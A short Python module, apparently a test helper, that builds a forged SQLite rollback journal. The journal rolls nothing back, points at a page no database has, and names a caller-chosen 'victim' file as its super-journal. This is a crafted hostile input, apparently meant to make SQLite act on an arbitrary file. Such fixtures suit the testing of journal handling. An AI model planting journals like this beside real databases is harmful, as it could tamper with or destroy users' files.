"""SQLite's journals, as somebody may forge them."""

from __future__ import annotations

import os
import struct
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")


def naming(victim: Path, pages: int) -> bytes:
    """Return a journal that rolls nothing back and names ``victim`` as its super-journal."""
    name = os.fsencode(victim)
    header = MAGIC + struct.pack(">5I", 0, 1, pages, 512, 4096)
    record = struct.pack(">I", 2**30 // 4096 + 1)  # the page that no database has
    return (
        header.ljust(512, b"\0") + record + name + struct.pack(">2I", len(name), sum(name)) + MAGIC
    )
